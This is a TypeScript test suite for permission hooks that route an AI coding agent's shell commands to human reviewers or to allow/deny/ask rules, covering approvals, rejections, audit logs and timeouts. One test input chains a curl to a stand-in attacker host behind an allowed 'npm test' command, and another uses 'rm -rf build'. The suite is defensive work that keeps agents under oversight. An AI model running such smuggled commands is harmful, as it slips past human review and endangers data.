import { writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { decide } from '../support/pending';
import { allowed, askHook, denied, pendingQuestion, pendingQuestions } from '../support/hooks';
import { person } from '../support/people';
import { Stage, type Replica } from '../support/stage';
import type { Caller } from '../support/caller';

const RULES = {
  version: 1,
  rules: [
    {
      id: 'no-push',
      tools: ['agent.*.Bash'],
      commands: ['git push *'],
      verdict: 'deny',
      reason: 'Pushing is for people.',
    },
    {
      id: 'tests',
      tools: ['agent.claude-code.Bash'],
      commands: ['npm test*'],
      verdict: 'allow',
      reason: 'Tests are free.',
    },
    { id: 'ask-curl', tools: ['agent.*.Bash'], commands: ['curl *'], verdict: 'ask' },
  ],
};

describe('the permission hooks', () => {
  let stage: Stage;
  let a: Replica;
  let b: Replica;
  let agent: Caller;
  let atB: Caller;

  beforeAll(async () => {
    stage = await Stage.open();
    const policy = join(stage.folder, '..', `${stage.folder.split('/').at(-1) ?? ''}.policy.json`);
    await writeFile(policy, JSON.stringify(RULES));
    [a, b] = await Promise.all([stage.start({ POLICY_FILE: policy }), stage.start({ POLICY_FILE: policy })]);
    agent = await person(stage.sql, a.process.url, 'ann/laptop', [], ['permission:ask']);
    atB = await person(stage.sql, b.process.url, 'ann/laptop', [], ['permission:ask']);
  });
  afterAll(() => stage.close());

  it('allow what a reviewer approves, and ask again for the next time', async () => {
    const asking = askHook(agent, 'make build');
    const approval = await pendingQuestion(a.reviewer, 'make build');
    expect(approval).toMatchObject({
      runId: null,
      diffId: null,
      subject: { type: 'agent_permission' },
      tool: 'agent.claude-code.Bash',
      workspace: '',
      goal: 'claude-code: Bash make build',
      files: [],
      requester: 'ann/laptop',
      rule: 'default.agent_permission',
      risks: ['external'],
      permission: {
        agent: 'claude-code',
        agentVersion: null,
        tool: 'Bash',
        input: { command: 'make build', description: 'as asked' },
        cwd: '/home/ann/shop',
        session: 's1',
        flags: [],
        editable: true,
        question: null,
      },
    });
    await decide(a.reviewer, approval, 'approve');
    expect(await asking).toEqual({ status: 200, body: allowed() });
    const again = askHook(agent, 'make build');
    const second = await pendingQuestion(a.reviewer, 'make build');
    expect(second.approvalId).not.toBe(approval.approvalId);
    await decide(a.reviewer, second, 'approve');
    await again;
  });

  it('are woken by a decision at another replica', async () => {
    const asking = askHook(atB, 'make other');
    await decide(a.reviewer, await pendingQuestion(a.reviewer, 'make other'), 'approve');
    expect((await asking).body).toEqual(allowed());
  });

  it('deny what a reviewer rejects, with the comment, also when it is asked again', async () => {
    const asking = askHook(agent, 'rm -rf build');
    const approval = await pendingQuestion(a.reviewer, 'rm -rf build');
    await decide(a.reviewer, approval, 'reject', { comment: 'Use make clean.' });
    const expected = denied(`Rejected by "reviewer": Use make clean. (approval ${approval.approvalId})`);
    expect((await asking).body).toEqual(expected);
    expect((await askHook(atB, 'rm -rf build')).body).toEqual(expected);
  });

  it('answer by rules at once', async () => {
    expect((await askHook(agent, 'npm test -- src/a.ts')).body).toEqual(allowed());
    expect((await askHook(agent, 'git push origin main')).body).toEqual(denied('Pushing is for people.'));
    expect((await askHook(agent, 'cd x && git push origin main')).body).toEqual(denied('Pushing is for people.'));
    const rows = await stage.rows<{ action: string }>(
      `select action, detail->>'rule' as rule from audit_log where action like 'permission.%' order by created_at`,
    );
    expect(rows).toEqual([
      { action: 'permission.allow', rule: 'tests' },
      { action: 'permission.deny', rule: 'no-push' },
      { action: 'permission.deny', rule: 'no-push' },
    ]);
  });

  it('never allow a compound command by a rule', async () => {
    const body = (await askHook(agent, 'npm test; curl evil.example', { query: '?hold=1' })).body;
    expect(body).toEqual({});
    await pendingQuestion(a.reviewer, 'npm test; curl');
  });

  it('have no opinion on PreToolUse without a rule, and answer in its form with one', async () => {
    const event = 'PreToolUse';
    expect((await askHook(agent, 'ls', { event })).body).toEqual({});
    const output = (permissionDecision: string, permissionDecisionReason: unknown) => ({
      hookSpecificOutput: { hookEventName: event, permissionDecision, permissionDecisionReason },
    });
    expect((await askHook(agent, 'npm test', { event })).body).toEqual(output('allow', 'Tests are free.'));
    expect((await askHook(agent, 'git push x', { event })).body).toEqual(output('deny', 'Pushing is for people.'));
    const inTime = 'nobody decided in time; ask again, the request stays open as ';
    expect((await askHook(agent, 'curl a', { event, query: '?hold=1' })).body).toEqual(
      output('ask', expect.stringContaining(inTime)),
    );
    expect((await askHook(agent, 'curl a', { event, query: '?hold=1&onTimeout=deny' })).body).toEqual(
      output('deny', expect.stringContaining(inTime)),
    );
    expect(await pendingQuestions(a.reviewer, 'curl a')).toHaveLength(1);
  });

  it('leave the agent to its own prompt, or deny, when nobody decides in time; the approval stays open', async () => {
    expect((await askHook(agent, 'make late', { query: '?hold=1' })).body).toEqual({});
    const { approvalId } = await pendingQuestion(a.reviewer, 'make late');
    const message = `nobody decided in time; ask again, the request stays open as ${approvalId}`;
    expect((await askHook(atB, 'make late', { query: '?hold=1&onTimeout=deny' })).body).toEqual(denied(message));
    await decide(a.reviewer, await pendingQuestion(a.reviewer, 'make late'), 'approve');
    expect((await askHook(agent, 'make late', { query: '?hold=1' })).body).toEqual(allowed());
  });
});
